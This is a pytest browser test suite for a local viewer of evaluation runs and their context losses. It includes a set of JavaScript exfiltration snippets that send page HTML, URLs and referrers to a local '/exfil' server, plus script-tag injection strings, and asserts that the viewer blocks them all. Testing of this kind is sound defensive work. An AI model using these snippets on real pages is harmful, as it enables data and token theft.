"""The view in a real browser: from the verdict to the message that lost something, by mouse and
by keyboard.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import quote

import pytest
from browser.opened import Opened
from report.page.here import rendered
from report.view.made import HOSTILE, made_run, served

from profiles import FULL
from workbench.evaluation.experiment.run_notes import RunNotes
from workbench.report.view.app import ViewServer

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def view(made_once: Callable[..., Path]) -> Iterator[ViewServer]:
    with served(made_once("view", made_run) / "reports") as server:
        yield server


@pytest.fixture
def opened(browser: Any) -> Iterator[Opened]:
    found = Opened(
        browser,
        viewport={"width": 1200, "height": 900},
        permissions=["clipboard-read", "clipboard-write"],
    )
    yield found
    found.context.close()


def test_from_the_verdict_to_the_message_that_lost_something_are_two_clicks(
    opened: Opened, view: ViewServer, keep: Any
) -> None:
    page = opened.page
    page.goto(view.address + "runs/run")
    assert page.locator(".verdict").is_visible()
    keep(page, "view-run")
    page.locator("table.losses a").first.click()
    story = page.locator("#loss")
    assert "Stated by" in story.inner_text() and "removed it at compaction" in story.inner_text()
    keep(page, "view-session")
    stated = story.get_by_role("link", name="message").first
    number = stated.inner_text().split()[-1]
    stated.click()
    row = page.locator(f"#m{number}")
    assert (
        row.bounding_box()["y"] < 900
        and "dropped by" in row.inner_text()
        and row.locator("mark").count()
    )
    assert opened.said == [] and all(
        url.startswith(view.address) or url == "data:," for url in opened.asked
    )


def test_a_loss_in_the_report_leads_to_its_contexts(
    opened: Opened, view: ViewServer, made_once: Any
) -> None:
    run = made_once("view", made_run) / "reports" / "run"
    if not (run / "report.html").exists():
        rendered(run)
    page = opened.page
    page.goto((run / "report.html").as_uri())
    page.locator("table.losses summary").first.click()
    assert "workbench view --loss" in page.locator("[data-loss]").first.inner_text()
    page.goto(view.address + "runs/run")
    page.get_by_role("link", name="The report").click()
    report = page.frame_locator("iframe.report")
    report.locator("table.losses summary").first.click()
    report.get_by_role("link", name="Both contexts").first.click()
    page.wait_for_url("**/session?*")
    assert page.locator("#loss").is_visible()
    assert opened.said == []


def test_a_report_under_the_view_has_its_own_features(
    opened: Opened, view: ViewServer, made_once: Any
) -> None:
    run = made_once("view", made_run) / "reports" / "run"
    if not (run / "report.html").exists():
        rendered(run)
    page = opened.page
    page.goto(view.address + "runs/run/report.html")
    report = page.frame_locator("iframe.report")
    session = report.locator("details.contexts[open]").first
    picture, told = session.locator("svg").first, session.locator(".here")
    picture.hover()
    by_mouse = told.inner_text()
    assert by_mouse.startswith("Request ")
    page.keyboard.press("Tab")
    picture.press("ArrowRight")
    told.filter(has_not_text=by_mouse).wait_for()
    whole = picture.get_attribute("viewBox")
    page.keyboard.press("+")
    assert picture.get_attribute("viewBox") != whole
    page.keyboard.press("Escape")
    assert picture.get_attribute("viewBox") == whole
    report.get_by_label("Search").first.fill("nothing has this")
    assert report.get_by_text("none of these").is_visible()
    inside = report.locator("nav a[href^='#']").first
    inside.click()
    assert report.locator(inside.get_attribute("href")).is_visible()
    assert opened.said == [] and all(
        url.startswith(view.address.rsplit("/", 2)[0]) for url in opened.asked
    )


WAYS_OUT = {
    "location": "location = OUT",
    "a link": (
        "Object.assign(document.body.appendChild(document.createElement('a')), {href: OUT}).click()"
    ),
    "a link to the page around": (
        "Object.assign(document.body.appendChild(document.createElement('a')), "
        "{href: OUT, target: '_top'}).click()"
    ),
    "a window": "window.open(OUT)",
    "the page around": "top.location = OUT",
    "a form": (
        "const form = document.body.appendChild(document.createElement('form')); "
        "form.action = OUT; form.submit()"
    ),
    "a refresh": (
        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh"
        " content='0;url=${OUT}'>`)"
    ),
    "a frame": "document.body.appendChild(document.createElement('iframe')).src = OUT",
    "a picture": "new Image().src = OUT",
    "a request": "fetch(OUT)",
    "a beacon": "navigator.sendBeacon(OUT)",
    "a prefetch": (
        "document.head.insertAdjacentHTML('beforeend', `<link rel=prefetch href='${OUT}'>`)"
    ),
    "a message": "parent.postMessage({loss: OUT}, '*'); parent.postMessage({loss: 'abcdef'}, '*')",
}
TELLS = """
const told = [location.href, document.baseURI, document.referrer, document.documentElement.outerHTML, window.name];
try { told.push(parent.location.href) } catch (refused) {}
document.title = told.join(" ");
const OUT = "http://127.0.0.1:" + PORT + "/exfil?" + encodeURIComponent(document.title);
"""


class Outside(ThreadingHTTPServer):
    """A server of someone else, which writes down who asks it."""

    asked: list[str]


class Answer(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Outside)
        self.server.asked.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextmanager
def someone_else() -> Iterator[Outside]:
    """A server that no page of the view may ask, while the `with` lasts."""
    outside = Outside(("127.0.0.1", 0), Answer)
    outside.asked = []
    Thread(target=outside.serve_forever, args=(0.01,), daemon=True).start()
    yield outside
    outside.shutdown()
    outside.server_close()


def hostile_run(reports: Path, way: str, port: int) -> None:
    """A run whose report tries one way out, to a server at this port."""
    run = reports / way
    (run / "replays").mkdir(parents=True)
    script = TELLS.replace("PORT", str(port)) + WAYS_OUT[way]
    (run / "report.html").write_text(
        f'<html lang="en"><body><p>hostile</p><script>{script}</script></body></html>'
    )


@dataclass(frozen=True)
class Led:
    """Where a hostile report has led.

    Attributes:
        token: of the view, which it must not read.
        address: that was opened.
        at: the addresses of the browser's pages afterwards.
        titles: of the report, which are all that it could read.
        asked: what a server of someone else was asked.
    """

    token: str
    address: str
    at: list[str]
    titles: list[str]
    asked: list[str]


@pytest.fixture(scope="module")
def led(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Led]:
    """By way out: where its report has led. All are open at once, as waiting takes long."""
    reports = tmp_path_factory.mktemp("hostile")
    with ExitStack() as stack:
        servers = {way: stack.enter_context(someone_else()) for way in WAYS_OUT}
        for way, outside in servers.items():
            hostile_run(reports, way, outside.server_address[1])
        view = stack.enter_context(served(reports))
        opened = {way: Opened(browser) for way in WAYS_OUT}
        addresses = {way: f"{view.address}runs/{quote(way)}/report.html" for way in WAYS_OUT}
        for way, window in opened.items():
            window.page.goto(addresses[way])
        window.page.wait_for_timeout(700)
        token = view.address.rstrip("/").rsplit("/", 1)[1]
        led = {}
        for way, window in opened.items():
            pages = [page.url for page in window.context.pages]
            titles = [frame.title() for frame in window.page.frames[1:2]]
            led[way] = Led(token, addresses[way], pages, titles, servers[way].asked)
            window.context.close()
    return led


@pytest.mark.parametrize("way", WAYS_OUT)
def test_a_hostile_report_leads_nowhere_and_reads_no_token(led: dict[str, Led], way: str) -> None:
    assert led[way].at == [led[way].address]
    assert led[way].asked == []
    assert led[way].titles and led[way].token not in led[way].titles[0]


def test_runs_are_opened_and_losses_filtered_by_keyboard(opened: Opened, view: ViewServer) -> None:
    page = opened.page
    page.goto(view.address)
    page.keyboard.press("Tab")
    assert page.locator(":focus").inner_text() == "Skip to the content"
    page.get_by_role("link", name="run", exact=True).focus()
    page.keyboard.press("Enter")
    page.get_by_label("Search").fill("timeout_of_3")
    page.keyboard.press("Enter")
    page.wait_for_url("**q=timeout_of_3**")
    texts = page.locator("table.losses tbody tr").all_inner_texts()
    assert texts and all("timeout_of_3" in text for text in texts)
    assert "losses that fit shown" in page.locator("main").inner_text()


def test_the_slider_moves_both_contexts_and_the_address(opened: Opened, view: ViewServer) -> None:
    page = opened.page
    page.goto(view.address + "runs/run/session?id=s%2F1&request=0")
    assert page.locator(
        ".messages .dropped"
    ).count() == 0 and "Not compacted up to here" in page.inner_text("main")
    page.get_by_role("slider").focus()
    page.keyboard.press("End")
    page.get_by_text("is shown.").wait_for()
    assert page.locator(".messages .dropped").count() > 0 and "request=79" in page.url
    assert page.locator(":focus").get_attribute("name") == "request"
    page.get_by_role("link", name="Compaction before").click()
    assert "request=79" not in page.url
    page.get_by_role("button", name="Copy this address").click()
    page.get_by_text("Copied.").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == page.url


def test_a_summary_is_copied_as_it_is(opened: Opened, view: ViewServer) -> None:
    page = opened.page
    page.goto(view.address + "runs/run/session?id=s%2F1&left=summarize&right=truncate&request=39")
    page.get_by_role("button", name="Copy the summary").first.click()
    page.get_by_text("Copied.").wait_for()
    assert (
        page.evaluate("navigator.clipboard.readText()")
        == page.locator("#summary-1-left").text_content()
    )


def test_hostile_words_of_a_recording_do_nothing(opened: Opened, view: ViewServer) -> None:
    for where in ("", "runs/run", "runs/run/session?id=s%2F1&request=0&message=1"):
        opened.page.goto(view.address + where)
        assert (
            opened.page.evaluate("window.hit") is None and opened.page.locator("main").is_visible()
        )
    assert "<script>window.hit=1</script>" in opened.page.locator("#whole").inner_text()


@pytest.fixture
def own_view(made_once: Callable[..., Path], tmp_path: Path) -> Iterator[tuple[ViewServer, Path]]:
    """A view of two runs that a test may change, and their folder."""
    path = made_once("view", made_run) / "reports" / "run"
    for name in ("run", "second"):
        shutil.copytree(path, tmp_path / "reports" / name)
    with served(tmp_path / "reports") as server:
        yield server, tmp_path / "reports"


def test_runs_are_sorted_in_place_by_keyboard(
    opened: Opened, own_view: tuple[ViewServer, Path]
) -> None:
    page = opened.page
    page.goto(own_view[0].address)
    names = page.locator("table.runs tbody th a")
    page.locator("#by-name").focus()
    for sort, expected in (("name", ["run", "second"]), ("-name", ["second", "run"])):
        page.keyboard.press("Enter")
        page.wait_for_url(f"**sort={sort}")
        assert names.all_inner_texts() == expected
        assert page.locator(":focus").get_attribute("id") == "by-name"
    page.get_by_label("State").select_option("finished")
    page.get_by_role("button", name="Filter").click()
    assert "sort=-name" in page.url and "state=finished" in page.url
    assert names.all_inner_texts() == ["second", "run"] and opened.said == []


def test_losses_are_marked_by_key_one_after_another(
    opened: Opened, own_view: tuple[ViewServer, Path]
) -> None:
    server, reports = own_view
    page = opened.page
    page.goto(server.address + "runs/run")
    page.get_by_role("link", name="Mark losses").click()
    page.wait_for_load_state("load")  # its keys do nothing before
    marked = []
    for key, mark in (("2", "not needed"), ("3", "wrong kind"), ("1", "needed")):
        title = page.locator("#loss-title").inner_text()
        marked.append(title)
        page.keyboard.press(key)
        page.get_by_text(f"Marked as {mark}.").wait_for()
        assert page.locator("#loss-title").inner_text() not in marked
    page.keyboard.press("s")
    page.locator("#marked").wait_for(state="attached")
    assert sorted(RunNotes.of(reports / "run").marks.values()) == [
        "needed", "not needed", "wrong kind"
    ]  # fmt: skip
    page.goto(server.address + "runs/run")
    assert "2 marked losses (1 not needed and 1 wrong kind)" in page.inner_text("main")
    assert opened.said == []


def test_a_run_is_named_and_deleted(opened: Opened, own_view: tuple[ViewServer, Path]) -> None:
    server, reports = own_view
    page = opened.page
    page.goto(server.address + "runs/run")
    page.get_by_label("Name", exact=True).fill(HOSTILE[:120])
    page.get_by_label("Tags").fill("nightly, <b>x</b>")
    page.get_by_label("Note").fill(HOSTILE)
    page.get_by_role("button", name="Save").click()
    page.get_by_text("Saved.", exact=True).wait_for()
    assert "<script>" in page.locator("h1").inner_text()
    assert RunNotes.of(reports / "run").tags == ("nightly", "<b>x</b>")
    page.goto(server.address)
    assert page.evaluate("window.hit") is None and "<b>x</b>" in page.inner_text("table.runs")
    page.goto(server.address + "runs/run")
    answers = [False, True]
    page.on("dialog", lambda box: box.accept() if answers.pop(0) else box.dismiss())
    delete = page.get_by_role("button", name="Delete this run")
    delete.click()
    assert (reports / "run").exists()
    delete.click()
    page.get_by_text("run is deleted.").wait_for()
    assert not (reports / "run").exists()
    assert page.locator("table.runs tbody th").count() == 1 and opened.said == []


def test_a_run_that_moves_on_is_shown_and_said(opened: Opened, tmp_path: Path) -> None:
    (tmp_path / "going" / "replays").mkdir(parents=True)
    with served(tmp_path) as server:
        opened.page.goto(server.address + "runs/going")
        assert "0 replays are done" in opened.page.inner_text("main")
        (tmp_path / "going" / "replays" / "one.json").write_text("{}")
        opened.page.get_by_text("The run goes on: 1 replay is done.").wait_for()
        assert "1 replay is done" in opened.page.inner_text("main")
    opened.page.get_by_text("The view has ended").wait_for()


@pytest.mark.parametrize(
    ("scheme", "width"),
    [
        pytest.param(
            "light",
            1200,
            marks=pytest.mark.skipif(not FULL, reason="each is covered beside another"),
        ),
        ("dark", 1200),
        ("light", 390),
    ],
)
def test_nobody_is_kept_out(
    browser: Any, view: ViewServer, keep: Any, scheme: str, width: int
) -> None:
    axe = pytest.importorskip(
        "axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed"
    )
    found = Opened(browser, viewport={"width": width, "height": 900}, color_scheme=scheme)
    pages = (
        "", "runs/run", "runs/run/session?id=s%2F1&request=39&message=9", "runs/run/queue",
        "runs/run/filling?id=s%2F1", "changes?before=run&after=run", "chart",
        "runs/run/search?q=timeout", "?hide=usd",
    )  # fmt: skip
    for where in pages:
        found.page.goto(view.address + where)
        violations = axe.Axe().run(found.page).response["violations"]
        assert [(one["id"], one["nodes"][0]["html"][:200]) for one in violations] == []
        assert found.page.evaluate("document.documentElement.scrollWidth") <= width
    keep(found.page, f"view-{scheme}-{width}")
    found.context.close()
